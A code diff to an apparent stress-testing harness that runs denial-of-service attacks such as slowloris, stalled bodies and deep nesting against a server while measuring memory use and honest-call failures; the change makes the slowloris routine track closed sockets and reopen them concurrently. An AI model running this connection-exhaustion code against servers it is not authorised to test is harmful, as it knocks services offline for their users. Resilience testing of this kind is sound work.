@@ -46,6 +46,7 @@ DEAD = "0x000000000000000000000000000000000000dEaD"
 ATTACKS = ("idle", "slowloris", "stalled", "nesting", "p2p", "mempool")
 CONNECT_CONCURRENCY = 256
 CONNECT_TIMEOUT_S = 10.0
+RECONNECT_TIMEOUT_S = 2.0  # slowloris: a connection the server closed, opened again
 READY_TIMEOUT_S = 300.0
 HONEST_TIMEOUT_S = 10.0  # one honest call; a call that takes longer counts as failed
 SETTLE_AFTER_S = 5.0  # the RSS "after" figure of the stalled bodies: this long after closing
@@ -273,26 +274,38 @@ async def slowloris(
     `interval_s`; with `reconnect`, one the server closes is opened again."""
     socks, failures = await open_connections(host, port, count)
     streams = [_slow_header_bytes() for _ in socks]
+    alive = [True] * len(socks)
     closed = reopened = ticks = 0
+
+    async def reopen(i: int) -> None:
+        nonlocal reopened
+        with contextlib.suppress(OSError, TimeoutError):
+            socks[i] = await open_connection(host, port, RECONNECT_TIMEOUT_S)
+            streams[i] = _slow_header_bytes()
+            alive[i] = True
+            reopened += 1
+
     ready.set()
     while not stop.is_set():
         ticks += 1
+        dead = []
         for i, sock in enumerate(socks):
+            if not alive[i]:
+                dead.append(i)
+                continue
             try:
                 sock.send(bytes([next(streams[i])]))
-                continue
             except BlockingIOError:
-                continue
+                pass
             except OSError:
                 closed += 1
                 sock.close()
-            if reconnect:
-                with contextlib.suppress(OSError, TimeoutError):
-                    socks[i] = await open_connection(host, port)
-                    streams[i] = _slow_header_bytes()
-                    reopened += 1
+                alive[i] = False
+                dead.append(i)
+        if reconnect and dead:
+            await asyncio.gather(*(reopen(i) for i in dead))
         await _wait_or_stop(stop, interval_s)
-    still_open = count_open(socks)
+    still_open = count_open([sock for sock, up in zip(socks, alive, strict=True) if up])
     close_all(socks)
     return {
         "opened": len(socks),
